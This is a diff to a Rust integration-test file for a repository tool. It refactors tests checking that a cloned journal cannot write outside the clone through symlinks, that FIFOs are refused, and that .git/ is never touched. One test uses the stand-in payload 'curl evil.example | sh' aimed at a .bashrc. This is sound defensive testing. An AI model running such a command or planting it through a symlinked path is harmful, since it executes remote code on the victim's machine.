@@ -4,6 +4,8 @@
 //! run through the binary: the command fails with exit 1 naming the offending path, and
 //! nothing outside the clone is written, created or removed.
 
+use resolve_test_support::process::output_ok;
+use resolve_test_support::text::{assert_contains, assert_lacks};
 use std::io::Write;
 use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
@@ -68,6 +70,20 @@ impl Scene {
         std::fs::write(path, content).unwrap();
     }
 
+    /// Put a committed apply journal under the source repository whose one state step places
+    /// `state-0.json` at `path` (relative to `.resolve/`).
+    fn journal_placing(&self, path: &str) {
+        let journal = serde_json::json!({
+            "version": 1, "purpose": "apply", "action": "pending-action:write:1",
+            "committed": true, "entries": [], "createdDirs": [],
+            "state": [{"op": "place", "path": path, "staged": "state-0.json"}]
+        });
+        self.file(
+            ".resolve/journal/journal.json",
+            journal.to_string().as_bytes(),
+        );
+    }
+
     /// Put a symlink to `target` under the source repository.
     fn link(&self, relative: &str, target: &str) {
         let path = self.path("src").join(relative);
@@ -88,25 +104,20 @@ impl Scene {
 }
 
 fn git(dir: &Path, args: &[&str]) {
-    let output = Command::new("git")
-        .current_dir(dir)
-        .args([
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@example.invalid",
-            "-c",
-            "core.symlinks=true",
-            "-c",
-            "init.defaultBranch=main",
-        ])
-        .args(args)
-        .output()
-        .unwrap();
-    assert!(
-        output.status.success(),
-        "git {args:?}: {}",
-        String::from_utf8_lossy(&output.stderr)
+    output_ok(
+        Command::new("git")
+            .current_dir(dir)
+            .args([
+                "-c",
+                "user.name=t",
+                "-c",
+                "user.email=t@example.invalid",
+                "-c",
+                "core.symlinks=true",
+                "-c",
+                "init.defaultBranch=main",
+            ])
+            .args(args),
     );
 }
 
@@ -185,16 +196,7 @@ fn a_cloned_committed_journal_cannot_place_its_payload_over_a_file_outside() {
     let scene = Scene::new();
     let payload = b"curl evil.example | sh\n";
     scene.file(".resolve/journal/state-0.json", payload);
-    scene.file(
-        ".resolve/journal/journal.json",
-        serde_json::json!({
-            "version": 1, "purpose": "apply", "action": "pending-action:write:1",
-            "committed": true, "entries": [], "createdDirs": [],
-            "state": [{"op": "place", "path": "h/home/.bashrc", "staged": "state-0.json"}]
-        })
-        .to_string()
-        .as_bytes(),
-    );
+    scene.journal_placing("h/home/.bashrc");
     // `<clone>/.resolve/h` is `<tmp>`.
     scene.link(".resolve/h", "../..");
     let clone = scene.commit_and_clone();
@@ -211,23 +213,11 @@ fn a_cloned_journal_placing_outside_the_record_directories_is_refused_without_an
     // No symlink at all: the journal names a state path outside pending/, history/, notes/.
     let scene = Scene::new();
     scene.file(".resolve/journal/state-0.json", b"{}");
-    scene.file(
-        ".resolve/journal/journal.json",
-        serde_json::json!({
-            "version": 1, "purpose": "apply", "action": "pending-action:write:1",
-            "committed": true, "entries": [], "createdDirs": [],
-            "state": [{"op": "place", "path": "config.toml", "staged": "state-0.json"}]
-        })
-        .to_string()
-        .as_bytes(),
-    );
+    scene.journal_placing("config.toml");
     let clone = scene.commit_and_clone();
     let run = run_in(&clone, &["pending"]).expect_code(1);
-    assert!(
-        run.stderr.contains("journal.json") && run.stderr.contains("config.toml"),
-        "{}",
-        run.stderr
-    );
+    assert_contains(&run.stderr, "journal.json");
+    assert_contains(&run.stderr, "config.toml");
     assert!(!clone.join(".resolve/config.toml").exists());
 }
 
@@ -275,11 +265,8 @@ fn a_fifo_in_the_state_directory_is_refused_without_blocking() {
     std::fs::create_dir_all(workspace.path(".resolve")).unwrap();
     mkfifo(&workspace.path(".resolve/counters.json"));
     let run = run_in(workspace.root(), &["write", "b.txt", "--content", "b\n"]).expect_code(1);
-    assert!(
-        run.stderr.contains(".resolve/counters.json") && run.stderr.contains("FIFO"),
-        "{}",
-        run.stderr
-    );
+    assert_contains(&run.stderr, ".resolve/counters.json");
+    assert_contains(&run.stderr, "FIFO");
     assert!(!workspace.path("b.txt").exists());
 }
 
@@ -299,12 +286,8 @@ fn is_fifo(path: &Path) -> bool {
 #[test]
 fn a_fifo_swapped_in_at_a_previewed_path_fails_apply_quickly_and_releases_the_lock() {
     let workspace = Workspace::with(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
-    workspace
-        .run(&["write", "a.txt", "--content", "A\n"])
-        .expect_code(0);
-    workspace
-        .run(&["write", "b.txt", "--content", "B\n"])
-        .expect_code(0);
+    workspace.run_ok(&["write", "a.txt", "--content", "A\n"]);
+    workspace.run_ok(&["write", "b.txt", "--content", "B\n"]);
     std::fs::remove_file(workspace.path("a.txt")).unwrap();
     mkfifo(&workspace.path("a.txt"));
     let ids = workspace.pending_ids();
@@ -317,11 +300,8 @@ fn a_fifo_swapped_in_at_a_previewed_path_fails_apply_quickly_and_releases_the_lo
     )
     .expect_code(1);
     assert!(started.elapsed() < Duration::from_secs(10));
-    assert!(
-        run.stderr.contains("a.txt") && run.stderr.contains("not a regular file"),
-        "{}",
-        run.stderr
-    );
+    assert_contains(&run.stderr, "a.txt");
+    assert_contains(&run.stderr, "not a regular file");
     assert!(is_fifo(&workspace.path("a.txt")), "the FIFO was replaced");
     assert_eq!(
         workspace.pending_ids().len(),
@@ -348,7 +328,7 @@ fn editing_or_reading_a_fifo_through_the_binary_is_refused_without_hanging() {
         &["edit", "pipe.rs", "--old", "a", "--new", "b"],
     )
     .expect_code(1);
-    assert!(run.stderr.contains("not a regular file"), "{}", run.stderr);
+    assert_contains(&run.stderr, "not a regular file");
     // A walk passes a FIFO by.
     run_in(
         workspace.root(),
@@ -417,7 +397,7 @@ fn a_git_directory_is_never_a_target_in_any_case() {
             ".RESOLVE/pending/9.json",
         ),
     ] {
-        let run = workspace.run(&args).expect_code(1);
+        let run = workspace.run_fails(&args);
         assert!(run.stderr.contains(shown), "{args:?}: {}", run.stderr);
         assert!(
             run.stderr.contains("inside `.git/`") || run.stderr.contains("inside `.resolve/`"),
@@ -430,9 +410,7 @@ fn a_git_directory_is_never_a_target_in_any_case() {
     // A walk of the root never reaches into `.git/`.
     workspace.write(".git/x.rs", b"fn f() { a(); }\n");
     workspace.write("src/y.rs", b"fn f() { a(); }\n");
-    let run = workspace
-        .run(&["ast-edit", "-p", "a()", "-r", "b()", "--lang", "rust", "."])
-        .expect_code(0);
-    assert!(!run.stdout.contains(".git/x.rs"), "{}", run.stdout);
-    assert!(run.stdout.contains("src/y.rs"), "{}", run.stdout);
+    let run = workspace.run_ok(&["ast-edit", "-p", "a()", "-r", "b()", "--lang", "rust", "."]);
+    assert_lacks(&run.stdout, ".git/x.rs");
+    assert_contains(&run.stdout, "src/y.rs");
 }
